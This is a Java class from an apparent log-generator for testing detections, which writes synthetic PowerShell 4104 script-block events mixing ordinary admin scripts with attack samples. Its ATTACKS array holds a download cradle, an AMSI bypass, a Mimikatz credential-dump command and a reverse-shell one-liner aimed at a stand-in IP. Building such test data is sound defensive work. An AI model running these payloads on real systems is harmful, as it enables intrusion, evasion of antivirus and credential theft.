package io.sigscan.cli.generate;

import java.time.Instant;
import java.util.Locale;

/**
 * PowerShell event 4104: script blocks logged as they are compiled. Everyday ones are admin and
 * build scripts and module functions, a few lines to a few kilobytes; attacks are download
 * cradles, an AMSI bypass and Mimikatz.
 */
final class ScriptBlocks implements EventData {
    private static final String[] PATHS = {
        "", "", "C:\\Program Files\\WindowsPowerShell\\Modules\\PSReadLine\\2.0.0\\PSReadLine.psm1",
        "C:\\src\\webapp\\build\\release.ps1", "C:\\Windows\\system32\\WindowsPowerShell\\v1.0\\Modules\\Storage\\Storage.psm1",
        "C:\\ProgramData\\corp\\scripts\\inventory.ps1",
    };
    private static final String[] ONE_LINERS = {
        "prompt",
        "{ Set-StrictMode -Version 1; $_.PSMessageDetails }",
        "$global:?",
        "Get-Service | Where-Object Status -eq 'Running'",
        "Get-ChildItem -Path C:\\src\\webapp\\logs -Filter *.log | Where-Object LastWriteTime -lt (Get-Date).AddDays(-7) | Remove-Item -Force",
        "Import-Module -Name PSReadLine",
        "Get-NetTCPConnection -State Listen | Sort-Object LocalPort",
    };
    /** Statements that make up the bodies of longer, module-like script blocks. */
    private static final String[] STATEMENTS = {
        "    $ErrorActionPreference = 'Stop'",
        "    [CmdletBinding()]",
        "    param([Parameter(Mandatory = $true)][string] $ComputerName, [int] $TimeoutSeconds = 30)",
        "    $session = New-CimSession -ComputerName $ComputerName -OperationTimeoutSec $TimeoutSeconds",
        "    $disks = Get-CimInstance -CimSession $session -ClassName Win32_LogicalDisk -Filter 'DriveType = 3'",
        "    foreach ($disk in $disks) {",
        "        $free = [math]::Round($disk.FreeSpace / 1GB, 2)",
        "        Write-Verbose \"$($disk.DeviceID) has $free GB free\"",
        "    }",
        "    if (-not (Test-Path -Path $OutputPath)) { New-Item -ItemType Directory -Path $OutputPath | Out-Null }",
        "    $result | Export-Csv -Path (Join-Path $OutputPath 'inventory.csv') -NoTypeInformation -Append",
        "    Remove-CimSession -CimSession $session",
        "    $env:NODE_ENV = 'production'; & npm.cmd run build --if-present",
        "    $version = (Get-Content -Raw package.json | ConvertFrom-Json).version",
        "    Write-Host \"Building release $version\" -ForegroundColor Green",
        "    try { $projects = Get-Content -Raw -Path $ProjectList | ConvertFrom-Json } catch { throw }",
        "    $hash = Get-FileHash -Algorithm SHA256 -Path $artifact",
        "    Set-Content -Path \"$artifact.sha256\" -Value $hash.Hash -Encoding ascii",
    };
    private static final String[] FUNCTION_NAMES = {
        "Get-DiskInventory", "Invoke-ReleaseBuild", "Publish-Artifact", "Test-ServiceHealth", "Sync-ProjectCache",
    };
    private static final String[] ATTACKS = {
        "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/s.ps1')",
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static')"
                + ".SetValue($null,$true)",
        "Invoke-Mimikatz -Command '\"privilege::debug\" \"sekurlsa::logonpasswords\" exit'",
        "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.77',4444);$s = $c.GetStream();"
                + "[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){;"
                + "$d = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($b,0, $i);$r = (iex $d 2>&1 | Out-String )}",
    };

    @Override
    public void write(JsonLine line, RandomValues values, Host host, Instant time, boolean attack) {
        String text;
        String path;
        if (attack) {
            text = ATTACKS[values.below(ATTACKS.length)];
            path = "";
        } else if (values.below(3) == 0) {
            text = moduleFunction(values);
            path = values.pick(PATHS);
        } else {
            text = values.pick(ONE_LINERS);
            path = "";
        }
        line.field("Severity", "VERBOSE");
        line.field("UserID", EventRenderer.userSid(host.user()));
        line.number("MessageNumber", 1);
        line.number("MessageTotal", 1);
        line.field("ScriptBlockText", text);
        line.field("ScriptBlockId", values.guid().substring(1, 37).toLowerCase(Locale.ROOT));
        line.field("Path", path);
    }

    /** A function of 4 to 60 statements: script blocks are often kilobytes long. */
    private static String moduleFunction(RandomValues values) {
        StringBuilder text = new StringBuilder(2048);
        text.append("function ").append(values.pick(FUNCTION_NAMES)).append(" {\r\n");
        int statements = 4 + values.below(57);
        for (int i = 0; i < statements; i++) {
            text.append(values.pick(STATEMENTS)).append("\r\n");
        }
        return text.append('}').toString();
    }
}
